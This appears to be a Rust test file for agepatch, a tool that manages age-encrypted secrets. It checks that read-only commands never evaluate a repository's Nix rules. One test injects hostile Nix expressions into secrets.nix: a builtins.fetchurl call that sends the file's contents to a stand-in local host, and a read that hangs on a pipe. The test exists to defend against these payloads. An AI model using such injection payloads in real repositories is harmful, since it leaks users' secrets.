//! A repository that somebody else wrote: what its files say must not run, be read, or be sent anywhere by itself.

use std::fs;
use std::path::PathBuf;

use assert_cmd::Command;

use crate::sandbox::Sandbox;

const FILE: &str = "authelia-secrets.age";
const TEXT: &str = "identity_providers:\n  oidc:\n    hmac_secret: marker-hmac-0123456789abcdef0123456789\n    clients:\n      - client_id: media\n        client_secret: '$plaintext$marker'\n        redirect_uris: ['https://media.example.com/cb']\n";

/// A repository in which a program called `name` leaves a trace when it runs.
pub(crate) struct Trap {
    pub(crate) sandbox: Sandbox,
    folder: PathBuf,
}

impl Trap {
    /// A repository with an encrypted file, committed twice; `nix-instantiate` is a trap.
    pub(crate) fn new() -> Self {
        let sandbox = Sandbox::with_files(&[(FILE, TEXT), ("app-env.age", "SECRET=marker\n")]);
        let folder = sandbox.home().join("bin");
        let trap = Self { sandbox, folder };
        trap.set("nix-instantiate");
        trap.sandbox.git_init();
        trap.sandbox.seal(FILE, TEXT.replace("/cb", "/cb2").as_bytes());
        trap.sandbox.git(&["commit", "--quiet", "-am", "change"]);
        trap.sandbox.seal(FILE, TEXT.as_bytes());
        trap
    }

    /// Puts a program on the PATH that leaves a trace and prints an empty object.
    pub(crate) fn set(&self, name: &str) {
        fs::create_dir_all(&self.folder).expect("a folder");
        let trace = self.trace();
        let script = format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\necho '{{}}'\n", trace.display());
        let path = self.folder.join(name);
        fs::write(&path, script).expect("written");
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("executable");
        }
    }

    fn trace(&self) -> PathBuf {
        self.sandbox.home().join("trace")
    }

    /// What ran since the last time this was asked.
    pub(crate) fn sprung(&self) -> Option<String> {
        let text = fs::read_to_string(self.trace()).ok();
        let _ = fs::remove_file(self.trace());
        text
    }

    pub(crate) fn agepatch(&self, arguments: &[&str]) -> Command {
        let mut command = self.sandbox.agepatch(arguments);
        let path = std::env::var_os("PATH").unwrap_or_default();
        let path = std::env::join_paths(std::iter::once(self.folder.clone()).chain(std::env::split_paths(&path)));
        command.env("PATH", path.expect("a PATH")).timeout(std::time::Duration::from_mins(1));
        command
    }
}

/// Every command that only reads, on a file that is there.
const READING: &[&[&str]] = &[
    &["show", FILE],
    &["show", "authelia-secrets", "identity_providers"],
    &["get", FILE, "identity_providers.oidc.clients[media].client_id"],
    &["log", FILE],
    &["log", "authelia-secrets", "identity_providers.oidc.clients"],
    &["blame", FILE],
    &["diff"],
    &["diff", "HEAD~1"],
    &["diff", "HEAD~1..HEAD"],
    &["diff", "HEAD~1", FILE],
    &["diff", FILE],
    &["diff", "--output", "unified"],
    &["textconv", FILE],
    &["check"],
    &["check", FILE],
    &["client", "list"],
    &["client", "show", "media"],
    &["-d", FILE],
];

#[test]
fn reading_a_file_does_not_evaluate_the_rules() {
    let trap = Trap::new();
    let rules = fs::read_to_string(trap.sandbox.repo().join("secrets.nix")).expect("rules");
    // Nix would be needed; the evaluator in here would wait for a pipe that nobody writes to.
    let made = std::process::Command::new("mkfifo").arg(trap.sandbox.repo().join("pipe")).status();
    assert!(made.expect("mkfifo").success());
    for attack in [
        "builtins.seq (builtins.fetchurl \"http://127.0.0.1:9/${builtins.readFile ./secrets.nix}\") ",
        "builtins.seq (builtins.readFile ./pipe) ",
    ] {
        trap.sandbox.write("secrets.nix", &rules.replacen("in {", &format!("in {attack} {{"), 1));
        for arguments in READING {
            let ran = trap.agepatch(arguments).assert();
            let output = ran.get_output();
            assert!(matches!(output.status.code(), Some(0 | 1)), "{arguments:?}: {output:?}");
            assert_eq!(trap.sprung(), None, "{arguments:?}");
        }
    }
}

#[test]
fn what_is_read_without_the_rules_is_what_they_name() {
    let trap = Trap::new();
    let all = String::from_utf8(trap.agepatch(&["check"]).assert().get_output().stdout.clone()).expect("text");
    let one = String::from_utf8(trap.agepatch(&["check", FILE]).assert().get_output().stdout.clone()).expect("text");
    assert_eq!(all, one);
    // A file without the usual ending, and one in another folder.
    trap.sandbox.write(
        "secrets.nix",
        &fs::read_to_string(trap.sandbox.repo().join("secrets.nix"))
            .expect("rules")
            .replace("authelia-secrets.age", "sub/authelia-secrets"),
    );
    trap.sandbox.git(&["rm", "--quiet", "--cached", FILE]);
    fs::remove_file(trap.sandbox.repo().join(FILE)).expect("removed");
    trap.sandbox.seal("sub/authelia-secrets", TEXT.as_bytes());
    trap.sandbox.git(&["add", "."]);
    trap.agepatch(&["client", "list"]).assert().success().stdout(predicates::str::contains("media"));
    trap.agepatch(&["diff"]).assert().success().stdout(predicates::str::contains("sub/authelia-secrets"));
    let deleted = trap.agepatch(&["log", "authelia-secrets"]).assert().success();
    assert!(!deleted.get_output().stdout.is_empty());
}
